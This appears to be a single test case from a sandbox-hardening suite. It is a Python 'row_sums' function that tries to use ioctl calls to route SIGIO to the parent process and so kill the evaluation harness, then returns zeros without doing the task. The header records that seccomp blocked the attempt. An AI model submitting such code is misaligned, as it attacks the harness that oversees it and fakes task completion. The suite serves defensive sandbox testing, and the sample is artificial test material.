# row: C9
# attack: the parent's death by news on the channel: SIGIO, asked for by ioctl
# outcome: zero
# status: failed
# from: seccomp
# never: OWNED
# FIOSETOWN and SIOCSPGRP are fcntl(F_SETOWN) by another name, FIOASYNC is F_SETFL with O_ASYNC.
import fcntl
import os
import struct

import numpy as np

WAYS = (0x8901, 0x8902)
FIOASYNC = 0x5452


def row_sums(x):
    for way in WAYS:
        try:
            fcntl.ioctl(3, way, struct.pack("i", os.getppid() or 1))
            print("OWNED")
        except OSError:
            pass
    try:
        fcntl.ioctl(3, FIOASYNC, struct.pack("i", 1))
    except OSError:
        pass
    return np.zeros(len(x))
